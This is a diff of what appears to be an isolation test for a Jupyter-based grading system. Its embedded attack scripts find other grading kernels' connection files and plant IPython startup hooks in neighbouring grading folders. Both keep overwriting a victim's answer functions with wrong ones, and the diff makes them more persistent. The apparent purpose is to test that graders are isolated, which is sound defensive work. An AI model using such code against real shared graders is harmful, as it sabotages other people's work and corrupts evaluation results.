@@ -63,23 +63,27 @@ VICTIM = [*LESSON_00, "import time\ntime.sleep(12)"]
 ATTACK_CONNECTION_FILES = """
 import glob, os, time
 from jupyter_client import BlockingKernelClient
-mine, done = os.environ.get("JUPYTER_RUNTIME_DIR", "?"), set()
-roots = ["/tmp", "/root", "/home", os.path.expanduser("~"), "/run/user"]
-for _ in range(20):
-    for root in roots:
-        for path in glob.glob(root + "/**/*.json", recursive=True):
-            if path.startswith(mine) or path in done:
-                continue
-            done.add(path)
+mine = os.environ.get("JUPYTER_RUNTIME_DIR", "?")  # .../lowdim-grade-X/kernel/run
+base = os.path.dirname(os.path.dirname(os.path.dirname(mine)))  # where the grader works
+patterns = [base + "/lowdim-grade-*/kernel/run/*.json", "/tmp/lowdim-grade-*/kernel/run/*.json"]
+patterns += [os.path.expanduser("~/.local/share/jupyter/runtime/*.json")]
+clients = {}
+for _ in range(60):  # every kernel found is told again and again: its own cells come and go
+    for path in sorted({found for pattern in patterns for found in glob.glob(pattern)}):
+        if not path.startswith(mine) and path not in clients:
             try:
-                client = BlockingKernelClient(connection_file=path)
-                client.load_connection_file()
-                client.start_channels()
-                client.execute("def end_to_end(layers):\\n    return layers[0] * 0")
-                client.execute("def recovery_error(W, M_star):\\n    return W.sum() * 0")
+                clients[path] = BlockingKernelClient(connection_file=path)
+                clients[path].load_connection_file()
+                clients[path].start_channels()
             except Exception:
                 pass
-    time.sleep(0.5)
+    for client in clients.values():
+        try:
+            client.execute("def end_to_end(layers):\\n    return layers[0] * 0")
+            client.execute("def recovery_error(W, M_star):\\n    return W.sum() * 0")
+        except Exception:
+            pass
+    time.sleep(0.25)
 """
 
 # (b) A startup file in every other grading folder, wherever IPython might look.
@@ -93,7 +97,7 @@ payload = (  # after every cell, the victim's answer replaced by a wrong one
     "    ip.user_ns['end_to_end'] = lambda layers: layers[0] * 0\\n"
     "ip.events.register('post_run_cell', sabotage)\\n"
 )
-for _ in range(300):
+for _ in range(600):  # outlives the victim graded beside it, so the next one starts meanwhile
     for folder in glob.glob(base + "/lowdim-grade-*") + glob.glob("/tmp/lowdim-grade-*"):
         for where in ("ipython", "kernel/home/.ipython"):
             startup = os.path.join(folder, where, "profile_default", "startup")
